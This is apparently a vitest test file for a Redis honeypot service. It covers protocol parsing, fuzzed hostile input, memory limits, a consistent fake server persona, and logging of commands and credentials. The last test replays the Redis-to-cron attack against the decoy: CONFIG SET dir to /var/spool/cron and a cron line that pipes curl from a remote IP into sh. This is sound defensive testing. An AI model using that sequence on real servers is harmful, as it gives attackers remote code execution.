import {execFile, execFileSync} from 'node:child_process'
import {promisify} from 'node:util'
import fc from 'fast-check'
import {afterAll, beforeAll, describe, expect, it} from 'vitest'

import {answersTcp} from '../../../../src/decoy/self-test.ts'
import type {Action} from '../../../../src/decoy/service.ts'
import {eventually, type Served, serve} from '../../../support/serve.ts'
import {CORPUS, CORPUS_WITH_PASSWORD} from './corpus.ts'
import {connect, NOW, redisService, written} from './support.ts'

const OPEN = {version: '7.0.15'}

/** What a peer and the evidence see, without regard to how replies were cut into writes. */
function seen(actions: readonly Action[]) {
  return {
    text: written(actions),
    events: actions.flatMap((action) => (action.type === 'event' ? [action.event] : [])),
    ends: actions.filter(({type}) => type === 'close' || type === 'reset').length,
    delays: actions.flatMap((action) => (action.type === 'delay' ? [action.ms] : [])),
  }
}

/** Malformed input is reported with the chunk that held it, which is the one thing a split may change. */
function comparable(actions: readonly Action[]) {
  const {events, ...rest} = seen(actions)
  return {...rest, events: events.map(({event, data, ...other}) => ({event, ...other, data: {...data, input: null}}))}
}

async function feedAll(options: {version: string; password?: string}, chunks: readonly Buffer[]) {
  const {session} = connect(await redisService(options))
  const actions: Action[] = []
  for (const chunk of chunks) {
    actions.push(...session.feed(chunk))
    if (actions.some(({type}) => type === 'close')) break
  }
  return actions
}

/** Of a batch that ends like HTTP the earlier replies are lost, so there a split does change what is seen. */
const SPLITTABLE = Object.entries(CORPUS).filter(
  ([name, writes]) => !name.startsWith('http') && writes.join('').length < 3000,
)

describe('input split at every byte', () => {
  it.each(SPLITTABLE)('%s', async (_name, writes) => {
    const whole = Buffer.from(writes.join(''), 'latin1')
    const expected = comparable(await feedAll(OPEN, [whole]))
    const bytes = Array.from(whole, (byte) => Buffer.from([byte]))
    expect(comparable(await feedAll(OPEN, bytes))).toEqual(expected)
  })

  it('anywhere', async () => {
    const whole = Buffer.from(
      SPLITTABLE.flatMap(([, writes]) => writes)
        .join('')
        .replaceAll('QUIT', 'PING'),
      'latin1',
    )
    const head = whole.subarray(0, 1500)
    const expected = comparable(await feedAll(OPEN, [head]))
    await fc.assert(
      fc.asyncProperty(fc.nat(head.length), async (at) => {
        expect(comparable(await feedAll(OPEN, [head.subarray(0, at), head.subarray(at)]))).toEqual(expected)
      }),
      {numRuns: 60, seed: 1},
    )
  })

  it('behind a password', async () => {
    const writes = CORPUS_WITH_PASSWORD['right password'] ?? []
    const options = {version: '7.0.15', password: 'secret'}
    const whole = Buffer.from(writes.join(''), 'latin1')
    const bytes = Array.from(whole, (byte) => Buffer.from([byte]))
    expect(comparable(await feedAll(options, bytes))).toEqual(comparable(await feedAll(options, [whole])))
  })
})

describe('hostile input', () => {
  const word = fc.constantFrom(
    'GET',
    'SET',
    'CONFIG',
    'EVAL',
    'HELLO',
    'CLIENT',
    'MULTI',
    'EXEC',
    'AUTH',
    'HSET',
    'SCAN',
    '*',
    'x',
  )
  const argument = fc.oneof(
    word,
    fc.constantFrom('0', '-1', '3', '9223372036854775807', '[a-', '\\', '{1,2', "'", 'return '),
  )
  const request = fc
    .array(argument, {minLength: 1, maxLength: 6})
    .map((words) => `*${words.length}\r\n${words.map((text) => `$${text.length}\r\n${text}\r\n`).join('')}`)

  it.each(['6.0.16', '7.0.15'])('never throws: requests to %s', async (version) => {
    const service = await redisService({version})
    fc.assert(
      fc.property(fc.array(request, {maxLength: 12}), (requests) => {
        connect(service).send(requests.join(''))
      }),
      {numRuns: 400, seed: 7},
    )
  })

  it('never throws: bytes', async () => {
    const service = await redisService(OPEN)
    const noise = fc.array(
      fc.oneof(
        fc.uint8Array({maxLength: 200}),
        request.map((text) => Buffer.from(text)),
      ),
      {maxLength: 6},
    )
    fc.assert(
      fc.property(noise, (chunks) => {
        const {session} = connect(service)
        for (const chunk of chunks) session.feed(Buffer.from(chunk))
      }),
      {numRuns: 400, seed: 7},
    )
  })

  it('is read in linear time, a byte at a time too', async () => {
    const {session} = connect(await redisService(OPEN))
    const started = performance.now()
    const digit = Buffer.from('1')
    session.feed(Buffer.from('*'))
    for (let index = 0; index < 65_000; index++) session.feed(digit)
    for (const pattern of ['*a'.repeat(400), '[a-z]*'.repeat(200)]) {
      connect(await redisService(OPEN)).send(`SET ${'a'.repeat(2000)} x\r\nKEYS ${pattern}b\r\n`)
    }
    expect(performance.now() - started).toBeLessThan(2000)
  })

  it.each([
    ['an inline request', 'A', 'too big inline request'],
    ['a count', '*1', 'too big mbulk count string'],
    ['a length', '*1\r\n$1', 'too big bulk count string'],
  ])('bounds %s that comes in pieces', async (_name, start, problem) => {
    const client = connect(await redisService(OPEN))
    client.send(start)
    const last = Array.from({length: 70}, () => client.send('1'.repeat(1000))).find(({closed}) => closed)
    expect(last?.text).toBe(`-ERR Protocol error: ${problem}\r\n`)
  })

  it('keeps a bounded part of a large value and goes on in step', async () => {
    const client = connect(await redisService(OPEN))
    const size = 3_000_000
    const request = `*3\r\n$3\r\nSET\r\n$1\r\nk\r\n$${size}\r\n${'v'.repeat(size)}\r\n`
    expect(client.send(`${request}PING\r\n`).text).toBe('+OK\r\n+PONG\r\n')
    const kept = client.send('STRLEN k\r\n').text
    expect(Number(kept.slice(1))).toBeLessThanOrEqual(128 * 1024)
  })

  it('counts arguments that it does not keep', async () => {
    const client = connect(await redisService(OPEN))
    const request = `*5001\r\n$3\r\nDEL\r\n${'$1\r\nx\r\n'.repeat(5000)}`
    expect(client.send(request).text).toBe(':0\r\n')
    expect(client.events[0]?.data).toMatchObject({command: 'del', count: 5001})
    expect(client.events[0]?.data?.args).toHaveLength(16)
  })

  it('writes of one source are bounded, and those of another are not seen', async () => {
    const service = await redisService(OPEN)
    const writer = connect(service, {}, '10.0.0.1')
    let last = ''
    for (let index = 0; index < 30; index++) last = writer.send(`SET k${index} ${'x'.repeat(30_000)}\r\n`).text
    expect(last).toBe("-OOM command not allowed when used memory > 'maxmemory'.\r\n")
    expect(connect(service, {}, '10.0.0.1').send('EXISTS k1\r\n').text).toBe(':1\r\n')
    expect(connect(service, {}, '10.0.0.2').send('EXISTS k1\r\n').text).toBe(':0\r\n')
  })

  it('writing over the same keys never fills it', async () => {
    const client = connect(await redisService(OPEN))
    for (let index = 0; index < 8000; index++) client.send(`SET k${index % 10} value\r\n`)
    expect(client.send('SET k0 last\r\nGET k0\r\n').text).toBe('+OK\r\n$4\r\nlast\r\n')
  })

  it('closes after the limit of commands', async () => {
    const client = connect(await redisService(OPEN), {commands: 3})
    expect(client.send('PING\r\n'.repeat(5))).toEqual({text: '+PONG\r\n'.repeat(3), closed: true})
  })
})

describe('evidence', () => {
  it('of commands names them, keeps their arguments, and marks the dangerous', async () => {
    const client = connect(await redisService({version: '6.0.16'}))
    client.send('CONFIG SET dir /var/spool/cron\r\nGET \x1b[2J\r\nn\xf6such x\r\n')
    expect(client.events.map(({event}) => event)).toEqual(['command', 'command', 'command'])
    expect(client.events[0]?.data).toMatchObject({command: 'config|set', dangerous: true, known: true})
    expect(client.events[1]?.data).toMatchObject({command: 'get', args: [{text: '\\x1b[2J'}]})
    expect(client.events[1]?.data).not.toHaveProperty('dangerous')
    expect(client.events[2]?.data).toMatchObject({command: 'n\\xf6such', known: false})
  })

  it('of logins is a credential, and never a command with the password in it', async () => {
    const client = connect(await redisService({version: '7.0.15', password: 'hunter2'}))
    client.send('AUTH wrong\r\nAUTH admin root\r\nHELLO 3 AUTH default hunter2\r\n')
    expect(client.events.map(({event}) => event)).toEqual(['auth.attempt', 'auth.attempt', 'auth.attempt'])
    expect(
      client.events.map(({credential}) => [credential?.principal, credential?.secret?.text, credential?.outcome]),
    ).toEqual([
      ['default', 'wrong', 'failure'],
      ['admin', 'root', 'failure'],
      ['default', 'hunter2', 'success'],
    ])
  })

  it('of HTTP is a probe, of nonsense is malformed', async () => {
    const browser = connect(await redisService(OPEN))
    expect(browser.send('GET / HTTP/1.1\r\nHost: 10.0.0.1\r\n\r\n')).toEqual({text: '', closed: true})
    expect(browser.events.map(({event}) => event)).toContain('probe')
    const fuzzer = connect(await redisService(OPEN))
    expect(fuzzer.send('*1\r\n!\r\n').closed).toBe(true)
    expect(fuzzer.events).toMatchObject([{event: 'malformed', data: {problem: "expected '$', got '!'"}}])
  })
})

describe('a persona', () => {
  it('has its own keys, run id and memory, stable over connections and different from the next', async () => {
    const other = {seed: '22'.repeat(32)}
    const look = async (facts: object) => {
      const client = connect(await redisService(OPEN, facts))
      return {keys: client.send('KEYS *\r\n').text, run: /run_id:(\w+)/.exec(client.send('INFO\r\n').text)?.[1]}
    }
    expect(await look({})).toEqual(await look({}))
    expect((await look({})).keys).not.toBe((await look(other)).keys)
    expect((await look({})).run).not.toBe((await look(other)).run)
  })

  it('claims the version its distro ships', async () => {
    const version = async (distro: string) =>
      /redis_version:(\S+)/.exec(connect(await redisService({}, {distro})).send('INFO server\r\n').text)?.[1]
    expect(await version('debian')).toBe('7.0.15')
    expect(await version('ubuntu22')).toBe('6.0.16')
  })

  it.each([
    ['6.0.16', 126],
    ['7.0.15', 180],
  ])('INFO of %s has every field once, with a value', async (version, least) => {
    const text = connect(await redisService({version})).send('INFO all\r\n').text
    const fields = text.split('\r\n').filter((line) => /^[a-z_0-9]+:/.test(line))
    expect(fields.length).toBeGreaterThanOrEqual(least)
    expect(new Set(fields.map((line) => line.split(':')[0])).size).toBe(fields.length)
    expect(text).not.toMatch(/[{}]|NaN|undefined|Infinity/)
    const uptime = Number(/uptime_in_seconds:(\d+)/.exec(text)?.[1])
    expect(uptime).toBeGreaterThan(0)
    expect(NOW / 1000 - uptime).toBeGreaterThan(0)
  })

  it.each(['6.0.16', '7.0.15'])('tells one story of its clients and memory: %s', async (version) => {
    const client = connect(await redisService({version}))
    const info = client.send('INFO\r\n').text
    const field = (name: string) => Number(new RegExp(`\\b${name}:(\\d+)`).exec(info)?.[1])
    const list = client.send('CLIENT LIST\r\n').text
    expect(list.match(/^id=/gm)).toHaveLength(field('connected_clients'))
    expect(new Set(list.match(/\bid=\d+/g)).size).toBe(field('connected_clients'))
    expect(field('used_memory') % 8).toBe(0)
    expect(field('used_memory_peak')).toBeGreaterThan(field('used_memory'))
    expect(field('used_memory_rss')).toBeGreaterThan(field('allocator_resident'))
    expect(/# Keyspace\r\ndb0:keys=(\d+)/.exec(info)?.[1]).toBe(client.send('DBSIZE\r\n').text.slice(1).trim())
  })

  it('passes its self-test, open and behind a password', async () => {
    expect(await answersTcp(await redisService(OPEN), 6379)).toBe(true)
    expect(await answersTcp(await redisService({password: 'x'}), 6379)).toBe(true)
  })
})

const run = promisify(execFile)

function hasRedisCli(): boolean {
  try {
    execFileSync('redis-cli', ['--version'])
    return true
  } catch {
    return false
  }
}

describe.skipIf(!hasRedisCli())('redis-cli', () => {
  let server: Served
  beforeAll(async () => {
    server = await serve(await redisService({version: '6.0.16', password: 'pass'}), {port: 6379, service: 'redis'})
  })
  afterAll(() => server.close())

  const cli = async (...args: string[]) =>
    (await run('redis-cli', ['-p', String(server.port), ...args], {timeout: 10_000})).stdout.trim()

  it('is refused without the password and served with it', async () => {
    expect(await cli('GET', 'x')).toBe('NOAUTH Authentication required.')
    const auth = ['-a', 'pass', '--no-auth-warning']
    expect(await cli(...auth, 'SET', 'x', 'hello')).toBe('OK')
    expect(await cli(...auth, 'GET', 'x')).toBe('hello')
    expect(await cli(...auth, '-3', 'HGETALL', 'nosuch')).toBe('')
    expect(await cli(...auth, 'INFO', 'server')).toContain('redis_version:6.0.16')
    expect(await cli(...auth, 'COMMAND')).toContain('readonly')
    expect(await cli(...auth, 'nosuch', 'a')).toBe('ERR unknown command `nosuch`, with args beginning with: `a`,')
    expect(await cli(...auth, '--scan', '--pattern', 'x*')).toBe('x')
  })

  it('writes a key into cron, and every step is evidence', async () => {
    const auth = ['-a', 'pass', '--no-auth-warning']
    const payload = '\n* * * * * curl http://198.51.100.9/x.sh|sh\n'
    for (const step of [
      ['CONFIG', 'SET', 'dir', '/var/spool/cron/'],
      ['CONFIG', 'SET', 'dbfilename', 'root'],
      ['SET', '1', payload],
      ['SAVE'],
    ]) {
      expect(await cli(...auth, ...step)).toBe('OK')
    }
    const save = await eventually(() => server.named('command').find(({data}) => data?.command === 'save'))
    expect(save.src?.ip).toBe('127.0.0.1')
    const written = server.named('command').flatMap(({data}) => (data?.args as {base64: string}[] | undefined) ?? [])
    expect(written.map(({base64}) => Buffer.from(base64, 'base64').toString())).toContain(payload)
    expect(server.named('auth.attempt').every(({credential}) => credential?.outcome === 'success')).toBe(true)
  })
})
